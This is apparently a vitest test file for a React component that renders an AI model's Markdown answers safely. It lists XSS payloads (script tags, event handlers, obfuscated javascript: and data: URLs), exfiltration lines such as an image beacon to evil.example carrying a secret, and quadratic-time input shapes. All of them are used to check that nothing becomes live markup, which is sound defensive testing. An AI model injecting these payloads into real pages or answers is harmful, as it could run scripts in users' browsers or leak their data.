// A model's answer is untrusted: no Markdown of it becomes markup, a script, a request or a frozen page.

import { createElement } from "react";
import { describe, expect, test } from "vitest";
import { drawPage } from "@/components/ui/testing/app-router";
import { AnswerText } from "./answer-text";
import { BlockReader } from "./blocks";
import { decodeEntities, safeHref } from "./inline";

const draw = (text: string): string => drawPage(createElement(AnswerText, { text }));

// OWASP's cheat sheet on filter evasion, and the bodies that broke Markdown renderers (marked's own advisories among them).
const bodies: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<details open ontoggle=alert(1)>x</details>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<base href='https://evil.example'><form action='https://evil.example'><input name=x></form>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://penny.example/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/settings)",
  '[x](https://evil.example "onmouseover=alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "![x](https://evil.example/leak?secret=1)",
  "![x](javascript:alert(1))",
  "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  "[![x](https://evil.example/leak)](https://evil.example)",
  '```"><script>alert(1)</script>\ncode\n```',
  "`</code><script>alert(1)</script>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- <script>alert(1)</script>\n- [ ] <b onclick=alert(1)>x</b>",
  "# <script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

describe.each(bodies)("%j", (body) => {
  const html = draw(body);
  const tags = [...html.matchAll(/<([a-z]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi)];

  test("becomes no element that runs, loads or sends something", () => {
    const names = new Set(tags.map(([, name]) => name?.toLowerCase()));
    for (const forbidden of [
      "script",
      "img",
      "svg",
      "iframe",
      "style",
      "base",
      "form",
      "object",
      "embed",
      "link",
      "meta",
      "math",
      "video",
      "audio",
    ]) {
      // The icon of the copy button is ours.
      if (forbidden === "svg" && html.includes("Copy the code")) continue;
      expect(names).not.toContain(forbidden);
    }
    for (const [, , attributes = ""] of tags) expect(attributes).not.toMatch(/\s(on\w+|srcset|srcdoc|style|src)=/i);
  });

  test("has only links to the web or to mail, which tell the other side nothing", () => {
    for (const [, name, attributes = ""] of tags.filter(([, name]) => name === "a")) {
      expect(name).toBe("a");
      expect(attributes).toMatch(/ href="(https?:\/\/|mailto:)/);
      expect(attributes).toContain(' target="_blank"');
      expect(attributes).toContain(' rel="noopener noreferrer nofollow"');
    }
  });
});

test("markup is shown as the text that it is, and an image as a link", () => {
  expect(draw("a <b>bold</b> & <script>")).toContain("a &lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;");
  expect(draw("![A cat](https://images.example/cat.png)")).toMatch(/<a href="https:\/\/images\.example\/cat\.png"[^>]*>Image: A cat<\/a>/);
});

test("addresses are judged as browsers read them", () => {
  expect(safeHref("https://penny.example/a?b=c")).toBe("https://penny.example/a?b=c");
  expect(safeHref("mailto:a@b.example")).toBe("mailto:a@b.example");
  for (const href of [
    "javascript:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "//evil.example",
    "/x",
    "#x",
    "",
    "data:,x",
  ]) {
    expect(safeHref(href), href).toBeNull();
  }
});

test("names of characters become characters once, and never markup", () => {
  expect(decodeEntities("&amp;lt; &#60;b&#62; &#x1F4B0; &quot; &unknown; &#0; &#xD800;")).toBe('&lt; <b> 💰 " &unknown; \ufffd \ufffd');
  expect(draw("&#60;img src=x&#62;")).toContain("&lt;img src=x&gt;");
});

/** Shapes on which Markdown readers took quadratic time or ran out of stack. */
const shapes: readonly [name: string, text: string][] = [
  ["open brackets", "[".repeat(100_000)],
  ["brackets and parentheses", "[x](".repeat(30_000)],
  ["emphasis", "*a ".repeat(50_000)],
  ["underscores", "_".repeat(100_000)],
  ["backticks", "`a".repeat(50_000)],
  ["backticks of many lengths", Array.from({ length: 400 }, (_, index) => "`".repeat(index)).join(" ")],
  ["quotes", ">".repeat(100_000)],
  ["nested lists", Array.from({ length: 400 }, (_, index) => `${" ".repeat(index * 2)}- x`).join("\n")],
  ["tables", `|${"a|".repeat(20_000)}\n|${"-|".repeat(20_000)}`],
  ["tags", "<a ".repeat(40_000)],
  ["comments", "<!--".repeat(30_000)],
  ["entities", "&#".repeat(60_000)],
  ["addresses", "https://a.".repeat(20_000)],
  ["mails", "a@".repeat(60_000)],
  ["spaces", `a${" ".repeat(100_000)}b`],
  ["empty lines", "\n".repeat(100_000)],
];

test.each(shapes)("%s take no more than a moment, and lose nothing", (_, text) => {
  const startedAt = performance.now();
  const html = draw(text);
  // A second on a busy machine; what is quadratic takes minutes.
  expect(performance.now() - startedAt).toBeLessThan(10_000);
  expect(html.length).toBeGreaterThan(0);
});

describe("an answer that is still written", () => {
  const text = [
    "# Title\n\nA paragraph\nof two lines.\n\n1. one\n\n   more\n\n2. two\n\nAfter.\n\n",
    "```ts\nconst a = 1;\n\n// no end ``` here\n```\n\n> quote\n\n~~~\ncode\n~~~\nend",
  ].join("");

  test("has finished blocks that no later text changes", () => {
    const reader = new BlockReader();
    let before: readonly unknown[] = [];
    for (let length = 1; length <= text.length; length++) {
      const blocks = reader.read(text.slice(0, length));
      // All but the one under way are the same objects.
      for (const [index, block] of before.slice(0, -1).entries()) expect(blocks[index]).toEqual(block);
      before = blocks;
    }
    expect(before).toEqual(new BlockReader().read(text));
  });

  test("keeps a list with empty lines in one block, and code in its own", () => {
    const blocks = new BlockReader().read(text);
    expect(blocks.map((block) => (block.kind === "code" ? `code ${block.language} ${block.isOpen}` : block.text.slice(0, 12)))).toEqual([
      "# Title",
      "A paragraph\n",
      "1. one\n\n   m",
      "After.",
      "code ts false",
      "> quote",
      "code  false",
      "end",
    ]);
  });

  test("of a megabyte is read in moments, piece by piece, whatever its form", () => {
    for (const line of ["A sentence of a long answer, with **bold** words.\n", "A paragraph.\n\n", "no line break ever "]) {
      const whole = line.repeat(Math.ceil(1_000_000 / line.length));
      const reader = new BlockReader();
      const startedAt = performance.now();
      for (let length = 10_000; length < whole.length; length += 10_000) reader.read(whole.slice(0, length));
      const blocks = reader.read(whole);
      expect(performance.now() - startedAt).toBeLessThan(10_000);
      expect(Math.max(...blocks.map((block) => block.text.length))).toBeLessThan(20_000);
    }
  });
});
